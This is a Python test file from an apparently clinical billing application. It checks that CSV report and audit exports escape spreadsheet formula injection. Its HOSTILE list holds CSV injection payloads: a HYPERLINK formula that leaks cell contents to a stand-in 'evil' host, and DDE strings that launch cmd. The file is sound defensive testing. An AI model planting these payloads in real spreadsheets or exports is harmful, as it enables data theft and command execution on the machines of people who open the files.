"""A name that looks like a spreadsheet formula is exported as text, never as a formula to run."""

import csv
import io
from decimal import Decimal

import pytest

from core.csv_export import safe_cell
from reports.engine import refresh
from reports.projections import REGISTRY
from tests.support.factories.billing import PayerFactory, issued_invoice
from tests.support.factories.clinical import PatientFactory, UserFactory
from tests.support.stack import on_stack, sign_in, wait_replayed

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", [*HOSTILE, "\tTAB", "\r=CR"])
def test_a_formula_like_text_cell_is_made_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "12", "+3", Decimal("-4.00"), 7, "Ngozi O'Neil", ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def _csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@on_stack
def test_ar_aging_exports_hostile_payer_and_patient_names_as_text(client):
    payer = PayerFactory(name=HOSTILE[0])
    issued_invoice("50.00", payer=payer, patient=PatientFactory(family_name=HOSTILE[1], given_name=HOSTILE[2]))
    for name in REGISTRY:
        refresh.refresh(name, force=True)
    wait_replayed()
    sign_in(client, UserFactory(username="csv-clerk", roles=["billing_clerk"]))
    by_payer = _csv(client.get("/reports/ar-aging/", {"group_by": "payer", "format": "csv"}))
    assert by_payer[0]["Payer"] == "'" + HOSTILE[0]
    by_patient = _csv(client.get("/reports/ar-aging/", {"group_by": "patient", "format": "csv"}))
    assert by_patient[0]["Patient"].startswith("'")
    cells = [cell for row in by_payer + by_patient for cell in row.values()]
    assert not [c for c in cells if c and (c[0] in "=+@" or (c[0] == "-" and not c[1:2].isdigit()))]


@pytest.mark.django_db
def test_the_audit_export_neutralises_hostile_text(client):
    nosy = UserFactory(username="=1+1", is_staff=True, roles=["admin"])
    client.force_login(nosy)
    client.get(f"/patients/{PatientFactory().pk}/")
    rows = _csv(client.get("/admin/hmis/auditevent/export/", {"who": "=1+1"}))
    assert rows and {r["username"] for r in rows} == {"'=1+1"}
